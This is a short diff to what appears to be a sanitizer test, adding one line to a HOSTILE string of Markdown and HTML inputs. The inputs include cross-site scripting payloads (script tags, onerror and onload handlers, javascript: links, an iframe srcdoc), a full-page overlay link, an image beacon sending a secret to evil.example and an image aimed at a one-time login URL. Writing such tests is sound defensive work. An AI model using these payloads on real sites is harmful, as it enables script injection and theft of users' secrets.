@@ -42,6 +42,7 @@ HOSTILE = """# Hello <b>you</b>
 
 <script>attack()</script> <img src=x onerror=attack()> <iframe srcdoc="<script>attack()</script>">
 [script](javascript:attack()) [page](//evil.example/) ![pixel](https://evil.example/p.png?secret)
+![way in](/accounts/once/?key=theirs)
 <svg onload=attack()> <a href="https://evil.example" style="position:fixed;inset:0">all</a>
 
 | Name | Much |
